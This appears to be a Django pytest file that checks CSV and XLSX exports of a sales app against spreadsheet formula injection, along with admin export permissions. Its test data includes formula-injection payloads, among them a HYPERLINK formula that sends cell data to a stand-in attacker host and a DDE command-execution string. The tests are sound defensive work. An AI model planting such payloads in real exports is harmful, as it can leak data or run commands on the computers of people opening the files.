"""No live spreadsheet formulas in any export: the API's CSV and the admin's CSV/XLSX exports."""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse

from core.exports import safe_cell
from sales.models import Customer
from sales.tests.factories import AssignmentFactory, CustomerFactory, SalesRecordFactory

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"클릭")',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "  =1+1",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", HOSTILE_NAMES)
def test_formula_text_gets_a_leading_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["한빛대학교병원", "-1200", "3.50", "이름 = 값", "", 12, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert safe_cell(value) == value


@pytest.fixture
def hostile(world):
    """Customers of rep A with hostile names, each with one sale."""
    customers = []
    for n, name in enumerate(HOSTILE_NAMES):
        customer = CustomerFactory(name=name, code=f"X{n:03d}")
        AssignmentFactory(employee=world.emp_a, customer=customer)
        SalesRecordFactory(employee=world.emp_a, customer=customer)
        customers.append(customer)
    world.hostile = customers
    return world


def _no_live_formula(cells):
    live = [cell for cell in cells if isinstance(cell, str) and cell.lstrip(" ").startswith(
        ("=", "+", "-", "@", "\t", "\r")) and not cell.lstrip(" ").lstrip("+-").replace(".", "").isdigit()]
    assert live == []


def test_sales_records_csv_neutralises_every_formula_in_customer_names(hostile, client_for):
    response = client_for(hostile.rep_a).get(reverse("sales:sales-record-export-csv"))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    names = {row["거래처"] for row in rows}
    assert {"'" + name for name in HOSTILE_NAMES} <= names
    assert "가나병원" in names  # ordinary names unchanged
    _no_live_formula([cell for row in rows for cell in row.values()])


def _admin_export(client, model, resource, fields, file_format):
    url = reverse(f"admin:sales_{model}_export")
    data = {"format": str(file_format), "resource": "0",
            **{f"{resource.lower()}_{field}": "on" for field in fields}}
    return client.post(url, data)


def _superuser_client(client, world):
    client.force_login(world.superuser)
    return client


def test_admin_customer_csv_export_neutralises_formulas(hostile, client):
    response = _admin_export(_superuser_client(client, hostile), "customer", "CustomerResource", ["code", "name"], 0)
    assert response.status_code == 200, response.content[:500]
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    names = {row["name"] for row in rows}
    assert {"'" + name for name in HOSTILE_NAMES} <= names
    _no_live_formula([cell for row in rows for cell in row.values()])


def test_admin_customer_xlsx_export_has_no_formula_cells(hostile, client):
    response = _admin_export(_superuser_client(client, hostile), "customer", "CustomerResource", ["code", "name"], 1)
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert "'=cmd|' /C calc'!A0" in {cell.value for cell in cells}


def test_admin_sales_record_export_neutralises_customer_codes(world, client):
    customer = CustomerFactory(code="=1+1", name="코드주입")
    SalesRecordFactory(employee=world.emp_a, customer=customer)
    response = _admin_export(_superuser_client(client, world), "salesrecord", "SalesRecordResource",
                             ["id", "customer", "amount"], 0)
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'=1+1" in {row["customer_code"] for row in rows}


def test_admin_export_requires_the_view_permission(world, client):
    world.rep_a.is_staff = True
    world.rep_a.save()
    client.force_login(world.rep_a)
    assert client.get(reverse("admin:sales_customer_export")).status_code == 403
    world.rep_a.user_permissions.add(Permission.objects.get(codename="view_customer"))
    assert client.get(reverse("admin:sales_customer_export")).status_code == 200


def test_admin_export_of_a_staff_rep_holds_only_their_customers(world, client):
    world.rep_a.is_staff = True
    world.rep_a.save()
    world.rep_a.user_permissions.add(Permission.objects.get(codename="view_customer"))
    client.force_login(world.rep_a)
    response = _admin_export(client, "customer", "CustomerResource", ["code", "name"], 0)
    names = {row["name"] for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert names == set(Customer.objects.visible_to(world.rep_a).values_list("name", flat=True)) == {"가나병원"}
